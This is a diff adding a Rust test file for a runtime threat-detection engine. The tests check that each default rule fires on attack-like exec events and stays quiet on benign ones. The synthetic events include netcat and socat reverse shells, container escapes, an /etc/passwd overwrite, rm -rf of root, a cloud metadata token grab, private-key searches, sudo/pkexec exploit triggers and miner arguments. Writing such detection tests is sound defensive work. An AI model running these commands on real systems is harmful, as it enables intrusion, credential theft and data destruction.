@@ -1,0 +1,387 @@
+//! Every default rule against synthetic exec events: each rule has at least one event it must fire on
+//! and one look-alike it must stay quiet on (`every_rule_has_positive_and_negative_cases` enforces it).
+
+use std::collections::BTreeSet;
+use std::time::SystemTime;
+
+use super::engine::{Engine, Mode};
+use super::finding::Resource;
+use super::policy::{Policy, DEFAULT_FILES};
+use crate::event::{Ancestor, Binary, EnvVar, ExecEvent, Sensor, Stdio};
+
+const REMOTE: &str = "tcp 10.0.0.5:41234->203.0.113.7:4444 ESTABLISHED";
+
+fn ev(exe: &str, args: &[&str]) -> ExecEvent {
+    ExecEvent {
+        time: SystemTime::now(),
+        sensor: Sensor::Ptrace,
+        pid: 100,
+        former_tid: None,
+        ppid: 50,
+        uid: 1000,
+        euid: 1000,
+        gid: 1000,
+        egid: 1000,
+        binary: Binary {
+            path: exe.into(),
+            deleted: false,
+            memfd: false,
+            size: Some(1),
+            sha256: None,
+            key: None,
+        },
+        args: args.iter().map(|a| a.to_string()).collect(),
+        arguments_truncated: false,
+        cwd: Some("/app".into()),
+        env: vec![],
+        stdio: [Stdio::File { path: "/dev/null".into() }, Stdio::Pipe { inode: 7 }, Stdio::Pipe { inode: 7 }],
+        ancestors: vec![],
+    }
+}
+
+fn parent(mut e: ExecEvent, exe: &str, args: &[&str]) -> ExecEvent {
+    e.ancestors.insert(
+        0,
+        Ancestor { pid: 50, exe: Some(exe.into()), args: args.iter().map(|a| a.to_string()).collect() },
+    );
+    e
+}
+
+fn stdin(mut e: ExecEvent, s: Stdio) -> ExecEvent {
+    e.stdio[0] = s;
+    e
+}
+
+fn env(mut e: ExecEvent, k: &str, v: &str) -> ExecEvent {
+    e.env.push(EnvVar { name: k.into(), val: v.into() });
+    e
+}
+
+fn socket() -> Stdio {
+    Stdio::Socket { inode: 9, peer: Some(REMOTE.into()) }
+}
+
+fn engine() -> Engine {
+    Engine::new(Policy::load(DEFAULT_FILES, &[]).expect("defaults load"), Resource::default())
+        .expect("compile")
+}
+
+fn fired(engine: &mut Engine, e: &ExecEvent) -> BTreeSet<String> {
+    engine.evaluate_exec(e, Mode::Detect).into_iter().map(|f| f.rule.id).collect()
+}
+
+/// (rule, event it must fire on)
+fn positives() -> Vec<(&'static str, ExecEvent)> {
+    vec![
+        ("reverse_shell_stdio_socket", stdin(ev("/usr/bin/bash", &["bash", "-i"]), socket())),
+        ("reverse_shell_stdio_socket", stdin(ev("/usr/bin/dash", &["sh"]), socket())),
+        ("remote_command_stdio_socket", stdin(ev("/usr/bin/id", &["id"]), socket())),
+        ("unexpected_child_shell", parent(ev("/bin/sh", &["sh", "-c", "ping -c1 x; id"]), "/usr/bin/python3.11", &["python3", "app.py"])),
+        ("socat_shell", parent(ev("/bin/bash", &["bash"]), "/usr/bin/socat", &["socat", "tcp:1.2.3.4:9", "exec:bash"])),
+        ("socat_shell", ev("/usr/bin/socat", &["socat", "TCP-LISTEN:9", "EXEC:/bin/bash,pty"])),
+        ("netcat_executed", ev("/usr/bin/nc", &["nc", "-z", "db", "5432"])),
+        ("netcat_executes_program", ev("/usr/bin/ncat", &["ncat", "1.2.3.4", "4444", "-e", "/bin/sh"])),
+        ("netcat_executes_program", ev("/bin/busybox", &["busybox", "nc", "1.2.3.4", "9", "-e", "sh"])),
+        ("fileless_memfd", {
+            let mut e = ev("/memfd:x", &["x"]);
+            e.binary.memfd = true;
+            e
+        }),
+        ("exec_from_dev_shm", ev("/dev/shm/.x/kworker", &["kworker"])),
+        ("kubernetes_attack_tool", ev("/tmp/peirates", &["peirates"])),
+        ("local_recon_tool", ev("/bin/bash", &["bash", "/tmp/linpeas.sh"])),
+        ("local_recon_tool", ev("/usr/local/bin/pspy64", &["pspy64"])),
+        ("container_escape", ev("/usr/bin/nsenter", &["nsenter", "--target", "1", "--mount", "sh"])),
+        ("container_escape", ev("/bin/sh", &["sh", "-c", "echo /cmd > /sys/fs/cgroup/rdma/release_agent"])),
+        ("disallowed_proxy_env", env(ev("/usr/bin/curl", &["curl", "http://x"]), "HTTPS_PROXY", "http://evil:3128")),
+        ("openssl_engine", ev("/usr/bin/openssl", &["openssl", "engine", "-t", "/tmp/e.so"])),
+        ("openssl_engine", ev("/usr/bin/openssl", &["openssl", "req", "-engine", "/tmp/e.so"])),
+        ("cups_foomatic_shell", parent(ev("/bin/sh", &["sh", "-c", "id"]), "/usr/lib/cups/filter/foomatic-rip", &["foomatic-rip"])),
+        ("base64_elf_argument", ev("/bin/sh", &["sh", "-c", "echo f0VMRgIBAQAAAAAAAAAAAAIAPgAB | base64 -d > /tmp/x"])),
+        ("base64_python_executed", ev("/usr/bin/python3", &["python3", "-c", "import base64;exec(base64.b64decode('cHJpbnQoMSk='))"])),
+        ("base64_shell_executed", ev("/bin/sh", &["sh", "-c", "echo aWQ= | base64 -d | sh"])),
+        ("compiler_launched", ev("/usr/bin/x86_64-linux-gnu-gcc-12", &["cc", "x.c"])),
+        ("compiler_launched", ev("/usr/lib/go/bin/go", &["go", "build", "."])),
+        ("find_gcloud_credentials", ev("/usr/bin/find", &["find", "/", "-name", "application_default_credentials.json"])),
+        ("gpg_key_recon", ev("/usr/bin/find", &["find", "/home", "-name", "secring.gpg"])),
+        ("search_private_keys_or_passwords", ev("/usr/bin/grep", &["grep", "-r", "BEGIN RSA PRIVATE KEY", "/"])),
+        ("steganography_tool", ev("/usr/bin/steghide", &["steghide", "extract", "-sf", "a.jpg"])),
+        ("remote_file_copy_tool", ev("/usr/bin/rclone", &["rclone", "copy", "/data", "remote:"])),
+        ("destructive_cmdline", ev("/bin/rm", &["rm", "-rf", "--no-preserve-root", "/"])),
+        ("destructive_cmdline", ev("/bin/sh", &["sh", "-c", "echo 'x::0:0::/:/bin/sh' > /etc/passwd"])),
+        ("bulk_data_removal", ev("/usr/bin/shred", &["shred", "-u", "/data/db"])),
+        ("bulk_data_removal", ev("/bin/rm", &["rm", "-rf", "/var/lib/postgresql"])),
+        ("stratum_mining_args", ev("/tmp/x", &["x", "-o", "stratum+tcp://pool.example:3333", "-u", "4ABC"])),
+        ("stratum_mining_args", ev("/opt/xmrig", &["xmrig", "--donate-level", "1", "-o", "pool:443"])),
+        ("sudo_cve_2019_14287", ev("/usr/bin/sudo", &["sudo", "-u#-1", "id"])),
+        ("pkexec_cve_2021_4034", ev("/usr/bin/pkexec", &[])),
+        ("sudo_cve_2021_3156", ev("/usr/bin/sudoedit", &["sudoedit", "-s", "\\"])),
+        ("terminal_shell", stdin(ev("/bin/bash", &["bash"]), Stdio::Tty { path: "/dev/pts/0".into() })),
+        ("ssh_server_started", ev("/usr/sbin/sshd", &["sshd", "-D"])),
+        ("kernel_module_tool", ev("/sbin/insmod", &["insmod", "/tmp/rootkit.ko"])),
+        ("metadata_token_request", ev("/usr/bin/curl", &["curl", "-H", "Metadata-Flavor: Google", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"])),
+        ("exec_from_temp_dir", ev("/tmp/.x/payload", &["payload"])),
+        ("exec_from_temp_dir", ev("/var/tmp/kdevtmpfs", &["kdevtmpfs"])),
+        ("exec_from_temp_dir", ev("/usr/lib/.cache/kworkerd", &["kworkerd"])),
+        ("audit_system_tampering", ev("/sbin/auditctl", &["auditctl", "-D"])),
+        ("piped_encoded_download", ev("/bin/sh", &["sh", "-c", "curl -s http://x/p | base64 -d > /tmp/p"])),
+        ("piped_encoded_code_execution", ev("/bin/bash", &["bash", "-c", "echo cHJpbnQoMSk= | base64 --decode | python3"])),
+    ]
+}
+
+/// (rule, look-alike event it must NOT fire on): the benign side of each rule.
+fn negatives() -> Vec<(&'static str, ExecEvent)> {
+    vec![
+        (
+            "reverse_shell_stdio_socket",
+            stdin(
+                ev("/bin/sh", &["sh", "-c", "exec app"]),
+                Stdio::Socket { inode: 3, peer: Some("unix /run/app.sock".into()) },
+            ),
+        ),
+        ("remote_command_stdio_socket", ev("/usr/bin/id", &["id", "-u"])),
+        (
+            "unexpected_child_shell",
+            parent(
+                ev("/usr/bin/python3", &["python3", "app.py"]),
+                "/bin/sh",
+                &["sh", "-c", "exec python3 app.py"],
+            ),
+        ),
+        ("socat_shell", ev("/usr/bin/socat", &["socat", "TCP-LISTEN:8080,fork", "TCP:backend:80"])),
+        ("netcat_executed", ev("/usr/bin/ncdu", &["ncdu"])),
+        ("netcat_executes_program", ev("/usr/bin/nc", &["nc", "-z", "db", "5432"])),
+        ("fileless_memfd", ev("/usr/bin/python3", &["python3"])),
+        ("exec_from_dev_shm", ev("/usr/bin/shm_helper", &["shm_helper"])),
+        ("kubernetes_attack_tool", ev("/usr/local/bin/kubectl", &["kubectl", "get", "pods"])),
+        ("local_recon_tool", ev("/bin/bash", &["bash", "/app/entrypoint.sh"])),
+        ("container_escape", ev("/usr/bin/nsenter", &["nsenter", "--net=/run/netns/x", "ip", "a"])),
+        ("disallowed_proxy_env", env(ev("/usr/bin/curl", &["curl", "http://x"]), "NO_PROXY", "localhost")),
+        ("openssl_engine", ev("/usr/bin/openssl", &["openssl", "req", "-new", "-key", "k.pem"])),
+        ("cups_foomatic_shell", parent(ev("/bin/sh", &["sh", "-c", "id"]), "/usr/sbin/cupsd", &["cupsd"])),
+        (
+            "base64_elf_argument",
+            ev("/bin/sh", &["sh", "-c", "echo eyJrIjogMX0= | base64 -d > /app/config.json"]),
+        ),
+        (
+            "base64_python_executed",
+            ev(
+                "/usr/bin/python3",
+                &["python3", "-c", "import base64,json;print(json.loads(base64.b64decode('e30=')))"],
+            ),
+        ),
+        (
+            "base64_shell_executed",
+            ev("/bin/sh", &["sh", "-c", "echo eyJrIjogMX0= | base64 -d > /app/config.json"]),
+        ),
+        ("compiler_launched", ev("/usr/bin/gccgo-helper-not", &["gccx"])),
+        ("find_gcloud_credentials", ev("/usr/bin/find", &["find", "/app", "-name", "*.pyc", "-delete"])),
+        ("gpg_key_recon", ev("/usr/bin/gpg", &["gpg", "--verify", "x.sig"])),
+        ("search_private_keys_or_passwords", ev("/usr/bin/grep", &["grep", "-q", "ready", "/tmp/status"])),
+        ("steganography_tool", ev("/usr/bin/convert", &["convert", "a.png", "a.jpg"])),
+        ("remote_file_copy_tool", ev("/bin/cp", &["cp", "-r", "/app/static", "/srv"])),
+        ("destructive_cmdline", ev("/bin/rm", &["rm", "-rf", "/tmp/build-cache"])),
+        ("bulk_data_removal", ev("/bin/rm", &["rm", "-f", "/var/lib/app/pid"])),
+        ("stratum_mining_args", ev("/usr/bin/curl", &["curl", "-o", "out.html", "https://example.com"])),
+        ("sudo_cve_2019_14287", ev("/usr/bin/sudo", &["sudo", "-u", "postgres", "psql"])),
+        ("pkexec_cve_2021_4034", ev("/usr/bin/pkexec", &["pkexec", "apt", "update"])),
+        ("sudo_cve_2021_3156", ev("/usr/bin/sudo", &["sudo", "-s", "echo", "a\\\\"])),
+        ("terminal_shell", ev("/bin/bash", &["bash", "-c", "exec gunicorn app"])),
+        ("ssh_server_started", ev("/usr/bin/ssh", &["ssh", "-V"])),
+        ("kernel_module_tool", ev("/sbin/lsmod", &["lsmod"])),
+        (
+            "metadata_token_request",
+            ev(
+                "/usr/bin/curl",
+                &["curl", "-s", "http://metadata.google.internal/computeMetadata/v1/project/project-id"],
+            ),
+        ),
+        ("exec_from_temp_dir", ev("/usr/local/bin/app", &["app"])),
+        ("exec_from_temp_dir", ev("/root/.pyenv/versions/3.11.7/bin/python3.11", &["python3"])),
+        ("exec_from_temp_dir", ev("/home/app/.local/bin/gunicorn", &["gunicorn"])),
+        ("audit_system_tampering", ev("/usr/bin/journalctl", &["journalctl", "-u", "app"])),
+        ("piped_encoded_download", ev("/bin/sh", &["sh", "-c", "curl -fsS http://localhost:8080/healthz"])),
+        ("piped_encoded_code_execution", ev("/bin/sh", &["sh", "-c", "echo e30= | base64 -d | jq ."])),
+    ]
+}
+
+#[test]
+fn positives_fire() {
+    let mut e = engine();
+    let mut failures = Vec::new();
+    for (rule, event) in positives() {
+        let got = fired(&mut e, &event);
+        if !got.contains(rule) {
+            failures.push(format!("{rule} did not fire on {:?} (fired: {got:?})", event.args));
+        }
+    }
+    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
+    assert_eq!(e.eval_errors, 0, "conditions failed to evaluate");
+}
+
+#[test]
+fn negatives_stay_quiet() {
+    let mut e = engine();
+    let mut failures = Vec::new();
+    for (rule, event) in negatives() {
+        let got = fired(&mut e, &event);
+        if got.contains(rule) {
+            failures.push(format!("{rule} fired on benign {:?}", event.args));
+        }
+    }
+    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
+}
+
+#[test]
+fn every_rule_has_positive_and_negative_cases() {
+    let policy = Policy::load(DEFAULT_FILES, &[]).unwrap();
+    let pos: BTreeSet<&str> = positives().iter().map(|(r, _)| *r).collect();
+    let neg: BTreeSet<&str> = negatives().iter().map(|(r, _)| *r).collect();
+    for r in &policy.rules {
+        assert!(pos.contains(r.spec.id.as_str()), "rule {} has no positive case", r.spec.id);
+        assert!(neg.contains(r.spec.id.as_str()), "rule {} has no negative case", r.spec.id);
+    }
+}
+
+#[test]
+fn proxy_present_at_start_is_allowed() {
+    let mut e = engine();
+    // The first exec is the workload's own start: its proxy is the deployed configuration.
+    let start = env(ev("/usr/bin/python3", &["python3", "app.py"]), "HTTPS_PROXY", "http://corp:3128");
+    assert!(!fired(&mut e, &start).contains("disallowed_proxy_env"));
+    let same = env(ev("/usr/bin/curl", &["curl", "x"]), "HTTPS_PROXY", "http://corp:3128");
+    assert!(!fired(&mut e, &same).contains("disallowed_proxy_env"));
+    let changed = env(ev("/usr/bin/curl", &["curl", "x"]), "HTTPS_PROXY", "http://evil:8080");
+    assert!(fired(&mut e, &changed).contains("disallowed_proxy_env"));
+}
+
+#[test]
+fn findings_follow_the_contract() {
+    let mut e = engine();
+    let event = parent(
+        stdin(ev("/usr/bin/bash", &["bash", "-i"]), socket()),
+        "/usr/bin/python3",
+        &["python3", "app.py"],
+    );
+    let findings = e.evaluate_exec(&event, Mode::Detect);
+    let f = findings.iter().find(|f| f.category == "Reverse Shell").expect("reverse shell");
+    let v = serde_json::to_value(f).unwrap();
+    assert_eq!(v["severity"], "CRITICAL");
+    assert_eq!(v["state"], "ACTIVE");
+    assert_eq!(v["findingClass"], "THREAT");
+    assert_eq!(v["action"], "ALERT");
+    assert_eq!(v["rule"]["id"], "reverse_shell_stdio_socket");
+    assert_eq!(v["rule"]["source"], "builtin");
+    assert_eq!(v["mitreAttack"]["primaryTactic"], "EXECUTION");
+    assert_eq!(v["mitreAttack"]["primaryTechniques"][0], "T1059.004");
+    assert_eq!(v["processes"][0]["name"], "bash");
+    assert_eq!(v["processes"][0]["pid"], 100);
+    assert_eq!(v["processes"][0]["parentPid"], 50);
+    assert_eq!(v["processes"][0]["args"], serde_json::json!(["bash", "-i"]));
+    assert_eq!(v["processes"][0]["stdio"]["stdin"], format!("socket {REMOTE}"));
+    assert_eq!(v["ancestors"][0]["binary"]["path"], "/usr/bin/python3");
+    assert!(v["description"].as_str().unwrap().contains(REMOTE), "{}", v["description"]);
+    assert_eq!(v["findingId"].as_str().unwrap().len(), 36);
+    assert!(v["eventTime"].as_str().unwrap().ends_with('Z'));
+    // Fields that do not apply are omitted, not filled with placeholders.
+    assert!(v.get("connections").is_none());
+    assert!(v.get("externalUri").is_none(), "no sha256, no VirusTotal link");
+    assert!(v["processes"][0].get("script").is_none());
+}
+
+fn user(text: &str) -> Vec<(String, String)> {
+    vec![("/etc/runwarden/extra.yaml".to_string(), text.to_string())]
+}
+
+#[test]
+fn user_policies_add_override_and_disable() {
+    let text = r#"
+lists:
+  shells: [mysh]
+rules:
+  - id: netcat_executed
+    enabled: false
+  - id: compiler_launched
+    action: kill
+  - id: my_tmp_rule
+    category: "Execution: Program Run from Temporary Directory"
+    severity: HIGH
+    description: "custom {proc.exe}"
+    mitre: {tactic: EXECUTION, techniques: [T1204]}
+    event: exec
+    condition: proc.exe.startsWith('/scratch/')
+"#;
+    let policy = Policy::load(DEFAULT_FILES, &user(text)).unwrap();
+    let get = |id: &str| policy.rules.iter().find(|r| r.spec.id == id).unwrap();
+    assert!(!get("netcat_executed").spec.enabled);
+    assert_eq!(get("compiler_launched").spec.action, super::policy::RuleAction::Kill);
+    assert_eq!(get("my_tmp_rule").origin.source, "/etc/runwarden/extra.yaml");
+    assert_eq!(get("my_tmp_rule").origin.line, 9);
+    assert!(policy.lists["shells"].contains(&"mysh".to_string()));
+    assert!(policy.lists["shells"].contains(&"bash".to_string()), "lists extend, not replace");
+
+    let mut e = Engine::new(policy, Resource::default()).unwrap();
+    assert!(fired(&mut e, &ev("/scratch/x", &["x"])).contains("my_tmp_rule"));
+    assert!(!fired(&mut e, &ev("/usr/bin/nc", &["nc", "-z", "h", "1"])).contains("netcat_executed"));
+    assert!(fired(&mut e, &stdin(ev("/usr/bin/mysh", &["mysh"]), socket()))
+        .contains("reverse_shell_stdio_socket"));
+}
+
+#[test]
+fn policy_errors_name_file_line_and_rule() {
+    let text = "rules:\n  - id: ok_rule\n    enabled: false\n  - id: bad_severity\n    category: X\n    severity: HIGHEST\n    description: d\n    mitre: {tactic: T, techniques: [T1]}\n    event: exec\n    condition: 'true'\n";
+    let err = Policy::load(DEFAULT_FILES, &user(text)).unwrap_err();
+    let all = err.to_string();
+    assert_eq!(err.0.len(), 2, "{all}");
+    assert!(
+        all.contains("/etc/runwarden/extra.yaml:2:1: rule ok_rule: changes a rule that does not exist"),
+        "{all}"
+    );
+    assert!(
+        all.contains("/etc/runwarden/extra.yaml:4:1: rule bad_severity: unknown variant `HIGHEST`"),
+        "{all}"
+    );
+
+    let text = "rules:\n  - id: typo\n    category: X\n    severity: LOW\n    description: d\n    mitre: {tactic: T, techniques: [T1]}\n    event: exec\n    conditon: 'true'\n";
+    let all = Policy::load(DEFAULT_FILES, &user(text)).unwrap_err().to_string();
+    assert!(all.contains("unknown field `conditon`"), "{all}");
+
+    let text = "rules:\n  - id: broken\n    category: X\n    severity: LOW\n    description: d\n    mitre: {tactic: T, techniques: [T1]}\n    event: exec\n    condition: \"proc.name ==\"\n";
+    let policy = Policy::load(DEFAULT_FILES, &user(text)).unwrap();
+    let err = Engine::new(policy, Resource::default()).err().expect("must not compile");
+    let all = err.to_string();
+    assert!(
+        all.starts_with("/etc/runwarden/extra.yaml:2:1: rule broken: condition does not compile"),
+        "{all}"
+    );
+
+    let err = Policy::load(DEFAULT_FILES, &user("rules: [\n")).unwrap_err();
+    assert_eq!(err.0[0].file, "/etc/runwarden/extra.yaml");
+    assert!(err.0[0].line >= 1);
+    assert!(err.to_string().contains('^'), "the offending line is shown with a caret: {err}");
+}
+
+#[test]
+fn defaults_are_valid_and_quiet_on_an_entrypoint_chain() {
+    let mut e = engine();
+    // A typical web-app start: a shell entrypoint renders config and execs the server.
+    let chain = [
+        ev("/bin/sh", &["/bin/sh", "/docker-entrypoint.sh", "gunicorn", "app:app"]),
+        parent(ev("/usr/bin/envsubst", &["envsubst"]), "/bin/dash", &["/bin/sh", "/docker-entrypoint.sh"]),
+        parent(ev("/bin/sed", &["sed", "-i", "s/x/y/", "/app/config.ini"]), "/bin/dash", &["/bin/sh"]),
+        parent(
+            ev("/usr/bin/python3.11", &["python3", "/usr/local/bin/gunicorn", "app:app"]),
+            "/bin/dash",
+            &["/bin/sh"],
+        ),
+        parent(
+            ev("/usr/bin/curl", &["curl", "-fsS", "http://127.0.0.1:8080/healthz"]),
+            "/bin/dash",
+            &["sh", "-c", "curl -fsS http://127.0.0.1:8080/healthz"],
+        ),
+    ];
+    for event in chain {
+        let got = fired(&mut e, &event);
+        assert!(got.is_empty(), "benign {:?} fired {got:?}", event.args);
+    }
+}
